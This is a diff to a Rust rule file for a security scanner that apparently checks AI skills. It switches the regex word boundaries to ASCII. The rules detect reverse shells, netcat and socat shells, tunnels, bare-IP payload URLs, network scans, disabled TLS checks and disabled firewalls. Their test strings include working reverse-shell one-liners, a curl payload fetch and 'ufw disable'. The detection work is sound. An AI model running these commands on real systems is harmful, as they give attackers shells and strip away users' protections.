@@ -10,7 +10,7 @@ pub const RULES: &[Rule] = &[
         message: "Reverse shell over /dev/tcp",
         explanation: "Detects an interactive shell wired to bash's `/dev/tcp` or `/dev/udp` pseudo-devices (`bash -i >& /dev/tcp/host/port 0>&1` and the file-descriptor variants). It hands a remote attacker a shell with the user's rights. Instead, there is no legitimate use in a skill; a port check needs only `</dev/tcp/host/port` without a shell attached.",
         matcher: Matcher::Text(
-            r#"(?i)\b(?:ba|z|k|da|c|tc)?sh\s+-i\b[^\n]*?/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[^\s/]+/\d+\s*(?:0>&1|0<&\d|<&\d|>&\d)|\bexec\s+\d+<>\s*/dev/(?:tcp|udp)/[^\n]*?(?:\b(?:ba)?sh\b|<&\d+\s*>&\d+|2>&\d+\s*>&\d+)"#,
+            r#"(?i)(?-u:\b)(?:ba|z|k|da|c|tc)?sh\s+-i(?-u:\b)[^\n]*?/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[^\s/]+/\d+\s*(?:0>&1|0<&\d|<&\d|>&\d)|(?-u:\b)exec\s+\d+<>\s*/dev/(?:tcp|udp)/[^\n]*?(?:(?-u:\b)(?:ba)?sh(?-u:\b)|<&\d+\s*>&\d+|2>&\d+\s*>&\d+)"#,
         ),
         fires: &[
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
@@ -29,7 +29,7 @@ pub const RULES: &[Rule] = &[
         message: "Netcat or socat attaches a shell to a socket",
         explanation: "Detects netcat/ncat with `-e`, `-c` or `--exec`, socat with an `exec:`/`system:` shell address, and the mkfifo or double-netcat relays that pipe a shell through a connection. These are bind and reverse shells. Instead, there is no legitimate use in a skill; use the service's own client for network access.",
         matcher: Matcher::Text(
-            r#"(?i)\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b[^\n|;&]*?\s(?:-e|-c|--exec|--sh-exec|--lua-exec)\s+["']?\S|\bsocat\b[^\n]*?\b(?:exec|system):[^\n]*?\b(?:sh|bash|zsh|cmd|powershell|pwsh)\b|\bmkfifo\b[^\n]*?\|\s*(?:/bin/)?(?:ba|z)?sh\b[^\n]*?\|\s*(?:nc|ncat|netcat|openssl)\b|\|\s*(?:nc|ncat|netcat)\b[^\n|]*?\|\s*(?:/bin/)?(?:ba|z)?sh\b"#,
+            r#"(?i)(?-u:\b)(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?-u:\b)[^\n|;&]*?\s(?:-e|-c|--exec|--sh-exec|--lua-exec)\s+["']?\S|(?-u:\b)socat(?-u:\b)[^\n]*?(?-u:\b)(?:exec|system):[^\n]*?(?-u:\b)(?:sh|bash|zsh|cmd|powershell|pwsh)(?-u:\b)|(?-u:\b)mkfifo(?-u:\b)[^\n]*?\|\s*(?:/bin/)?(?:ba|z)?sh(?-u:\b)[^\n]*?\|\s*(?:nc|ncat|netcat|openssl)(?-u:\b)|\|\s*(?:nc|ncat|netcat)(?-u:\b)[^\n|]*?\|\s*(?:/bin/)?(?:ba|z)?sh(?-u:\b)"#,
         ),
         fires: &[
             "nc -e /bin/sh 1.2.3.4 9001",
@@ -50,7 +50,7 @@ pub const RULES: &[Rule] = &[
         message: "Reverse shell written in a scripting language",
         explanation: "Detects the usual reverse-shell one-liners of Python (`os.dup2(s.fileno(), 0)`), Perl (`use Socket` + `exec /bin/sh`), PHP (`fsockopen` + exec), Ruby (`TCPSocket` + exec), PowerShell (`TCPClient` + `iex`) and Node (`net.Socket` + spawn sh). They give a remote attacker a shell. Instead, there is no legitimate use in a skill.",
         matcher: Matcher::Text(
-            r#"(?i)\bos\.dup2\s*\(\s*[\w.]+\.fileno\(\)\s*,\s*[012]\s*\)|\buse\s+Socket\s*;[^\n]*?\bexec\s*\(?\s*["'](?:/bin/)?(?:ba)?sh|\bfsockopen\s*\([^\n]*?\b(?:exec|shell_exec|system|passthru|proc_open|popen)\s*\(|\bTCPSocket\.(?:new|open)\b[^\n]*?\b(?:exec|spawn|system|IO\.popen)\b|\bNew-Object\s+(?:System\.)?Net\.Sockets\.TCPClient\b[^\n]*?\b(?:iex|Invoke-Expression)\b|\bnet\.Socket\s*\(\s*\)[^\n]*?\bspawn\s*\(\s*["'](?:/bin/)?(?:ba)?sh|\bsocket\.socket\s*\([^\n]*?\bsubprocess\.(?:call|Popen|run)\s*\(\s*\[\s*["'](?:/bin/)?(?:ba)?sh"#,
+            r#"(?i)(?-u:\b)os\.dup2\s*\(\s*[\w.]+\.fileno\(\)\s*,\s*[012]\s*\)|(?-u:\b)use\s+Socket\s*;[^\n]*?(?-u:\b)exec\s*\(?\s*["'](?:/bin/)?(?:ba)?sh|(?-u:\b)fsockopen\s*\([^\n]*?(?-u:\b)(?:exec|shell_exec|system|passthru|proc_open|popen)\s*\(|(?-u:\b)TCPSocket\.(?:new|open)(?-u:\b)[^\n]*?(?-u:\b)(?:exec|spawn|system|IO\.popen)(?-u:\b)|(?-u:\b)New-Object\s+(?:System\.)?Net\.Sockets\.TCPClient(?-u:\b)[^\n]*?(?-u:\b)(?:iex|Invoke-Expression)(?-u:\b)|(?-u:\b)net\.Socket\s*\(\s*\)[^\n]*?(?-u:\b)spawn\s*\(\s*["'](?:/bin/)?(?:ba)?sh|(?-u:\b)socket\.socket\s*\([^\n]*?(?-u:\b)subprocess\.(?:call|Popen|run)\s*\(\s*\[\s*["'](?:/bin/)?(?:ba)?sh"#,
         ),
         fires: &[
             "python -c 'import socket,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1)'",
@@ -71,7 +71,7 @@ pub const RULES: &[Rule] = &[
         message: "Opens a tunnel that exposes the machine to the internet",
         explanation: "Detects ngrok, cloudflared tunnels, `ssh -R` remote forwards, localtunnel, serveo, localhost.run, chisel, frp and bore. A tunnel publishes a local port to the internet, which also lets an outsider reach the user's machine. Webhook development uses them legitimately, so the rule is medium; instead, run tunnels only when the user asks and stop them afterwards.",
         matcher: Matcher::Text(
-            r#"(?i)\bngrok\s+(?:http|tcp|tls|start)\b|\bcloudflared\s+(?:tunnel|access\s+tcp)\b|\bssh\s+[^\n]*?\s-R\s*(?:\d|\[|[\w.-]+:\d)|\b(?:serveo\.net|localhost\.run|pinggy\.io|localtunnel\.me|loca\.lt)\b|\blt\s+--port\b|\bchisel\s+(?:client|server)\b|\bfrpc\b|\bbore\s+local\b"#,
+            r#"(?i)(?-u:\b)ngrok\s+(?:http|tcp|tls|start)(?-u:\b)|(?-u:\b)cloudflared\s+(?:tunnel|access\s+tcp)(?-u:\b)|(?-u:\b)ssh\s+[^\n]*?\s-R\s*(?:\d|\[|[\w.-]+:\d)|(?-u:\b)(?:serveo\.net|localhost\.run|pinggy\.io|localtunnel\.me|loca\.lt)(?-u:\b)|(?-u:\b)lt\s+--port(?-u:\b)|(?-u:\b)chisel\s+(?:client|server)(?-u:\b)|(?-u:\b)frpc(?-u:\b)|(?-u:\b)bore\s+local(?-u:\b)"#,
         ),
         fires: &[
             "ngrok http 3000",
@@ -91,7 +91,7 @@ pub const RULES: &[Rule] = &[
         message: "URL with a hard-coded public IP address",
         explanation: "Detects URLs whose host is a literal public IPv4 address (loopback, 10/8, 192.168/16, 172.16/12-style private and link-local ranges are skipped). Payload hosts and command-and-control servers are often bare IPs, because they have no domain to register or lose. Instead, use a documented hostname of the service the skill talks to.",
         matcher: Matcher::Text(
-            r#"(?im)\b(?:https?|ftp|tcp|udp|wss?|rtsp)://(?:[1-9]|1[1-9]|[2-9]\d|1[01]\d|12[0-6]|12[89]|1[3-5]\d|16[0-8]|17[01]|17[3-9]|18\d|19[013-9]|2[0-4]\d|25[0-5])\.(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(?::\d{1,5})?(?:[/\s"'`)>?#]|$)"#,
+            r#"(?im)(?-u:\b)(?:https?|ftp|tcp|udp|wss?|rtsp)://(?:[1-9]|1[1-9]|[2-9]\d|1[01]\d|12[0-6]|12[89]|1[3-5]\d|16[0-8]|17[01]|17[3-9]|18\d|19[013-9]|2[0-4]\d|25[0-5])\.(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(?::\d{1,5})?(?:[/\s"'`)>?#]|$)"#,
         ),
         fires: &[
             "curl http://45.33.32.156/payload.sh -o /tmp/p",
@@ -112,7 +112,7 @@ pub const RULES: &[Rule] = &[
         message: "Runs a network scanner",
         explanation: "Detects nmap, masscan, zmap, rustscan and unicornscan invoked with options or a target. Scanning networks the user does not own is illegal in many places and trips intrusion detection. Instead, scan only hosts the user names explicitly, and say so in the skill.",
         matcher: Matcher::Text(
-            r#"(?i)\b(?:nmap|masscan|zmap|rustscan|unicornscan)\s+(?:-|\d|[a-z0-9-]+\.[a-z0-9])"#,
+            r#"(?i)(?-u:\b)(?:nmap|masscan|zmap|rustscan|unicornscan)\s+(?:-|\d|[a-z0-9-]+\.[a-z0-9])"#,
         ),
         fires: &[
             "nmap -sV -p- 10.0.0.0/24",
@@ -129,7 +129,7 @@ pub const RULES: &[Rule] = &[
         severity: Severity::Medium,
         message: "Netcat listens for incoming connections",
         explanation: "Detects `nc -l`, `ncat -l` and combined forms such as `nc -lvnp 4444`. An open netcat listener accepts anything from the network and is the catching end of reverse shells. Instead, use a proper server with authentication if the skill needs to receive data.",
-        matcher: Matcher::Text(r#"(?i)\b(?:nc|ncat|netcat)\s+(?:-[a-z0-9]+\s+)*-[a-z]*l[a-z]*\b"#),
+        matcher: Matcher::Text(r#"(?i)(?-u:\b)(?:nc|ncat|netcat)\s+(?:-[a-z0-9]+\s+)*-[a-z]*l[a-z]*(?-u:\b)"#),
         fires: &[
             "nc -lvnp 4444",
             "ncat -l 8080 --keep-open",
@@ -146,7 +146,7 @@ pub const RULES: &[Rule] = &[
         message: "Disables TLS certificate verification",
         explanation: "Detects `curl -k`/`--insecure`, `wget --no-check-certificate`, `verify=False`, `NODE_TLS_REJECT_UNAUTHORIZED=0`, `rejectUnauthorized: false`, `PYTHONHTTPSVERIFY=0`, git `sslVerify false`, npm `strict-ssl false`, unverified SSL contexts and `InsecureSkipVerify`. Without verification anyone on the path can impersonate the server and feed the skill code or steal its tokens. Instead, fix the trust store or pass the right CA bundle.",
         matcher: Matcher::Text(
-            r#"(?im)\bcurl\b[^\n|;&]*?\s(?:-[a-zA-Z]*k[a-zA-Z]*|--insecure)(?:\s|$)|\bwget\b[^\n|;&]*?--no-check-certificate\b|\bverify\s*=\s*False\b|\bNODE_TLS_REJECT_UNAUTHORIZED\s*=\s*["']?0|\brejectUnauthorized\s*:\s*false\b|\bPYTHONHTTPSVERIFY\s*=\s*["']?0|\bhttp\.sslVerify\s*[= ]\s*false\b|\bstrict-ssl\s*[= ]\s*false\b|\bssl\._create_unverified_context\b|\bInsecureSkipVerify\s*:\s*true\b|\bGIT_SSL_NO_VERIFY\s*=\s*["']?(?:1|true)"#,
+            r#"(?im)(?-u:\b)curl(?-u:\b)[^\n|;&]*?\s(?:-[a-zA-Z]*k[a-zA-Z]*|--insecure)(?:\s|$)|(?-u:\b)wget(?-u:\b)[^\n|;&]*?--no-check-certificate(?-u:\b)|(?-u:\b)verify\s*=\s*False(?-u:\b)|(?-u:\b)NODE_TLS_REJECT_UNAUTHORIZED\s*=\s*["']?0|(?-u:\b)rejectUnauthorized\s*:\s*false(?-u:\b)|(?-u:\b)PYTHONHTTPSVERIFY\s*=\s*["']?0|(?-u:\b)http\.sslVerify\s*[= ]\s*false(?-u:\b)|(?-u:\b)strict-ssl\s*[= ]\s*false(?-u:\b)|(?-u:\b)ssl\._create_unverified_context(?-u:\b)|(?-u:\b)InsecureSkipVerify\s*:\s*true(?-u:\b)|(?-u:\b)GIT_SSL_NO_VERIFY\s*=\s*["']?(?:1|true)"#,
         ),
         fires: &[
             "curl -sk https://internal.example.com/install.sh -o i.sh",
@@ -167,7 +167,7 @@ pub const RULES: &[Rule] = &[
         message: "Disables the firewall or a host security control",
         explanation: "Detects `ufw disable`, flushing iptables or setting INPUT to ACCEPT, stopping firewalld, AppArmor, auditd or EDR agents, `setenforce 0`, turning off the Windows firewall or Defender, Defender exclusions, `spctl --master-disable` and `csrutil disable`. Removing these protections is preparation for an attack. Instead, open only the specific port a service needs and leave the rest of the protection on.",
         matcher: Matcher::Text(
-            r#"(?i)\bufw\s+disable\b|\biptables\s+(?:-t\s+\w+\s+)?-F\b|\biptables\s+-P\s+INPUT\s+ACCEPT\b|\bsystemctl\s+(?:stop|disable|mask)\s+(?:--now\s+)?(?:firewalld|ufw|apparmor|auditd|falcon-sensor|osqueryd)\b|\bsetenforce\s+0\b|\bnetsh\s+(?:advfirewall\s+set\s+\w+\s+state\s+off|firewall\s+set\s+opmode\s+(?:mode=)?disable)|\bSet-MpPreference\b[^\n]*?-Disable\w+\s+\$?(?:true|1)\b|\bAdd-MpPreference\b[^\n]*?-Exclusion(?:Path|Process|Extension)\b|\bspctl\s+--master-disable\b|\bcsrutil\s+disable\b"#,
+            r#"(?i)(?-u:\b)ufw\s+disable(?-u:\b)|(?-u:\b)iptables\s+(?:-t\s+\w+\s+)?-F(?-u:\b)|(?-u:\b)iptables\s+-P\s+INPUT\s+ACCEPT(?-u:\b)|(?-u:\b)systemctl\s+(?:stop|disable|mask)\s+(?:--now\s+)?(?:firewalld|ufw|apparmor|auditd|falcon-sensor|osqueryd)(?-u:\b)|(?-u:\b)setenforce\s+0(?-u:\b)|(?-u:\b)netsh\s+(?:advfirewall\s+set\s+\w+\s+state\s+off|firewall\s+set\s+opmode\s+(?:mode=)?disable)|(?-u:\b)Set-MpPreference(?-u:\b)[^\n]*?-Disable\w+\s+\$?(?:true|1)(?-u:\b)|(?-u:\b)Add-MpPreference(?-u:\b)[^\n]*?-Exclusion(?:Path|Process|Extension)(?-u:\b)|(?-u:\b)spctl\s+--master-disable(?-u:\b)|(?-u:\b)csrutil\s+disable(?-u:\b)"#,
         ),
         fires: &[
             "sudo ufw disable",
